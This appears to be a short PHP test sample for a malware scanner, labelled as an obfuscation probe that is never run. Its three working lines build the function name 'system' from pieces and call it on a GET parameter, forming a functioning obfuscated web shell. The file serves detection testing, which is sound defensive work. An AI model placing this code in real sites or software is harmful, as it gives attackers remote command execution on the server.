<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$p = 'sys';
$fn = "{$p}tem";
$fn($_GET['c']);
